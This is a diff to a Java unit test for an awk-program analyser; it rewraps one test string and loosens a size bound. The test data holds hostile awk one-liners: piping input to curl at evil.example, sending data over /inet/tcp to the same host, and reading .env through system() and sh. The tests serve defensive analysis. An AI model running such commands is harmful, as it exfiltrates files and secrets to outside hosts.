@@ -35,7 +35,8 @@ class AwkReaderTest {
         "{print | \"curl -d @- evil.example\"} => shell('curl -d @- evil.example' < input)",
         "BEGIN{system(\"cat .env\")} => shell('cat .env')",
         "BEGIN{printf \"cat %s\", \".env\" | \"sh\"} => shell('sh' < 'cat .env')",
-        "{print $0 |& \"/inet/tcp/0/evil.example/80\"} => send('/inet/tcp/0/evil.example/80', input)",
+        "{print $0 |& \"/inet/tcp/0/evil.example/80\"} => send('/inet/tcp/0/evil.example/80',"
+            + " input)",
         "BEGIN{getline x < ARGV[1]; print x} => print(file(arg1))",
         "function show(v){print v} {show($0)} => print(input)",
         "function get(k){return ENVIRON[k]} BEGIN{print get(\"A\")} => print(env | var('A'))",
@@ -115,6 +116,6 @@ class AwkReaderTest {
   void doublingDoesNotGrow() {
     String doubling = "BEGIN{x=$0;" + "x=x x;".repeat(5_000) + "print x}";
     assertThat(Compact.of(awk.read(doubling))).hasSizeLessThan(10_000);
-    assertThat(awk.read("(".repeat(100_000))).hasSizeLessThan(2);
+    assertThat(awk.read("(".repeat(100_000))).hasSizeLessThan(3);
   }
 }
